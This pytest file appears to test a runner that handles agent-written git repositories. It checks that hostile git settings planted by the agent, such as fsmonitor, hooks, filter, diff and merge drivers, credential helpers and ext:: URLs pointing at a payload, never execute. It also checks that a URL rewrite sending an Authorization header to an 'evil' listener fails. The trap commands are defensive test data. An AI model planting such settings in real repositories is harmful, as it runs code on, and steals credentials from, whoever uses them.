"""Programs that a repository names: none of them runs on the runner's side."""

from __future__ import annotations

import http.server
import threading
from typing import TYPE_CHECKING

import pytest

from runner.git import Auth, GitError
from tests.runner.workbench import sh

if TYPE_CHECKING:
    from collections.abc import Iterator

    from tests.pitfalls.arena import Arena

EDIT = "echo two > a.txt\n"
ONLY_EDIT = {b"a.txt": "M"}


@pytest.mark.parametrize(
    "trap",
    [
        "git config core.fsmonitor $P",
        "git config extensions.worktreeConfig true; git config --worktree core.bare false; git config --worktree core.fsmonitor $P",
        'printf "[core]\\n\\tfsmonitor = $P\\n" > $TMPDIR/more; git config include.path $TMPDIR/more',
    ],
)
def test_row_01_fsmonitor(arena: Arena, trap: str) -> None:
    arena.agent(EDIT + trap)
    arena.armed("git status")
    assert arena.finish().changes == ONLY_EDIT


HOOKS = "post-index-change reference-transaction post-checkout pre-commit post-commit pre-push prepare-commit-msg pre-auto-gc"


def test_row_02_hooks_in_the_git_folder(arena: Arena) -> None:
    script = f"d=$(git rev-parse --git-common-dir)/hooks; mkdir -p $d; for h in {HOOKS}; do cp $P $d/$h; done\n"
    arena.agent(EDIT + script)
    arena.armed("git update-ref refs/x HEAD")
    assert arena.finish().changes == ONLY_EDIT


def test_row_02_hooks_in_the_tree(arena: Arena) -> None:
    arena.agent(EDIT + f"git config core.hooksPath .husky; mkdir .husky; for h in {HOOKS}; do cp $P .husky/$h; done")
    arena.armed("git update-ref refs/x HEAD")
    seen = arena.finish()
    assert seen.changes == ONLY_EDIT | {f".husky/{hook}".encode(): "A" for hook in HOOKS.split()}


def test_row_03_external_diff_and_textconv(arena: Arena) -> None:
    arena.agent(
        EDIT
        + "echo '*.txt diff=evil' > .gitattributes; git config diff.evil.command $P; git config diff.evil.textconv $P\n"
        'd=$(git rev-parse --git-common-dir)/info; mkdir -p $d; echo "* diff=evil" > $d/attributes; git config diff.external $P'
    )
    arena.armed("git diff HEAD")
    arena.armed("git log -p -1 --ext-diff --textconv")
    seen = arena.finish()
    assert "-one\n+two\n" in seen.patch


def test_row_04_clean_and_smudge_filters(arena: Arena) -> None:
    arena.agent(
        "echo TWO > a.txt; echo '* filter=evil' > .gitattributes\n"
        "git config filter.evil.clean $P; git config filter.evil.smudge $P; git config filter.evil.required true"
    )
    arena.armed("git diff HEAD")
    seen = arena.finish()
    assert arena.place.store.read(str(seen.head), b"a.txt") == b"TWO\n"


def test_row_05_merge_drivers(arena: Arena) -> None:
    arena.agent(
        EDIT
        + "echo '* merge=evil' > .gitattributes; git config merge.evil.driver \"$P %A\"\ngit add .; git commit -qm mine"
    )
    sh(arena.place.origin, "echo theirs > a.txt; git commit -qam theirs")
    tip = arena.place.fetch()
    arena.armed(f"git merge-tree --write-tree HEAD {tip}")
    arena.finish()
    assert arena.place.store.merge_conflicts(tip, arena.workspace.head) == (b"a.txt",)
    assert arena.workspace.merge_base_in(tip) == (b"a.txt",)
    arena.require_silence()


def test_row_06_other_programs(arena: Arena) -> None:
    keys = (
        "gpg.program core.sshCommand credential.helper core.askPass core.editor sequence.editor core.pager pager.diff"
    )
    arena.agent(
        EDIT + f"for key in {keys} trailer.x.command remote.origin.receivepack; do git config $key $P; done\n"
        'git config remote.origin.uploadpack "$P < /dev/null #"\n'
        "git config commit.gpgSign true; git config push.gpgSign true; git config tag.gpgSign true\n"
        'git config remote.origin.url .; git config protocol.ext.allow always; git config alias.status "!$P"\n'
        'git config submodule.lib.update "!$P"; git config uploadpack.packObjectsHook $P; git config url."ext::$P".insteadOf /'
    )
    arena.armed("git ls-remote origin")
    arena.armed("git commit --allow-empty -m x")
    seen = arena.finish()
    assert seen.changes == ONLY_EDIT


class Listener:
    """A git server that there is none, but it writes down what it is sent."""

    def __init__(self) -> None:
        self.seen: list[str | None] = []
        outer = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                outer.seen.append(self.headers.get("Authorization"))
                self.send_response(404)
                self.send_header("Content-Length", "0")
                self.end_headers()

            def log_message(self, *_: object) -> None:
                pass

        self._server = http.server.HTTPServer(("127.0.0.1", 0), Handler)
        self._thread = threading.Thread(target=self._server.serve_forever, kwargs={"poll_interval": 0.01})
        self._thread.start()
        self.url = f"http://127.0.0.1:{self._server.server_port}"

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()
        self._thread.join()


@pytest.fixture
def listeners() -> Iterator[tuple[Listener, Listener]]:
    good, evil = Listener(), Listener()
    yield good, evil
    good.close()
    evil.close()


def test_row_07_rewritten_addresses(arena: Arena, listeners: tuple[Listener, Listener]) -> None:
    good, evil = listeners
    rewrite = f"url.{evil.url}/.insteadOf {good.url}/"
    arena.agent(
        f"git config {rewrite}; git config --global {rewrite}; git config http.proxy {evil.url}\n"
        f"printf '[lfs]\\n\\turl = {evil.url}\\n' > .lfsconfig"
    )
    arena.naive(f"git -c http.extraHeader='Authorization: Basic c2VjcmV0' ls-remote {good.url}/o/r")
    assert evil.seen, "the trap is not armed"
    evil.seen.clear()
    arena.finish()
    store, auth = arena.place.store, Auth(good.url, "Authorization: Basic c2VjcmV0")
    with pytest.raises(GitError):
        store.push(f"{good.url}/o/r", arena.workspace.head, "plan/7", expect=None, auth=auth)
    assert good.seen == ["Basic c2VjcmV0"]
    assert evil.seen == []


EVERYTHING = """
printf '* filter=evil diff=evil merge=evil\\n' > .gitattributes
for key in core.fsmonitor filter.evil.clean filter.evil.smudge diff.evil.command diff.evil.textconv diff.external \\
  merge.evil.driver gpg.program core.sshCommand credential.helper core.askPass core.editor core.pager; do git config $key $P; done
d=$(git rev-parse --git-common-dir); mkdir -p $d/hooks $d/info
for h in post-index-change reference-transaction post-checkout pre-commit post-commit; do cp $P $d/hooks/$h; done
cp .gitattributes $d/info/attributes
export IN_AGENT=1
git -c core.fsmonitor=false -c filter.evil.clean=cat -c core.hooksPath=/dev/null commit -qam 'by the agent'
"""


def test_row_24_the_agents_repository_as_a_source(arena: Arena) -> None:
    arena.agent("echo two > a.txt; git add .\n" + EVERYTHING)
    arena.armed("git status")
    seen = arena.finish()
    assert seen.changes == ONLY_EDIT | {b".gitattributes": "A"}
    assert seen.inspection.tip is not None


def test_row_24_malformed_objects(arena: Arena) -> None:
    arena.agent(
        "blob=$(echo x | git hash-object -w --stdin)\n"
        "sub=$(printf '100644 blob %s\\tconfig\\n' $blob | git mktree)\n"
        "tree=$(printf '040000 tree %s\\t.GIT\\n' $sub | git mktree)\n"
        "git update-ref HEAD $(echo evil | git commit-tree $tree -p HEAD)"
    )
    seen = arena.finish()
    assert seen.head is None
    assert "malformed" in seen.said


def test_row_28_a_bare_repository_inside_the_tree(arena: Arena) -> None:
    arena.agent(
        "mkdir -p pkg/objects pkg/refs; echo 'ref: refs/heads/x' > pkg/HEAD; : > pkg/objects/keep; : > pkg/refs/keep\n"
        'printf "[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n\\tworktree = ..\\n\\tfsmonitor = $P\\n" > pkg/config'
    )
    arena.armed("git status", arena.workspace.tree / "pkg")
    seen = arena.finish()
    assert b"pkg/config" in seen.changes


def test_row_30_settings_that_change_what_is_printed(arena: Arena) -> None:
    arena.agent(
        EDIT
        + "echo new > new\nfor pair in color.ui=always diff.noprefix=true diff.mnemonicPrefix=true diff.renames=copies \\\n"
        "  status.showUntrackedFiles=no core.quotePath=false diff.context=0 diff.wordRegex=. diff.ignoreSubmodules=all \\\n"
        "  diff.interHunkContext=9 diff.orderFile=/dev/null; do git config ${pair%%=*} ${pair#*=}; done; cp .git $HOME/x"
    )
    assert "\x1b[" in arena.naive("git diff HEAD"), "the trap is not armed"
    seen = arena.finish()
    assert seen.changes == ONLY_EDIT | {b"new": "A"}
    assert "\x1b[" not in seen.patch
    assert "--- a/a.txt\n+++ b/a.txt\n" in seen.patch
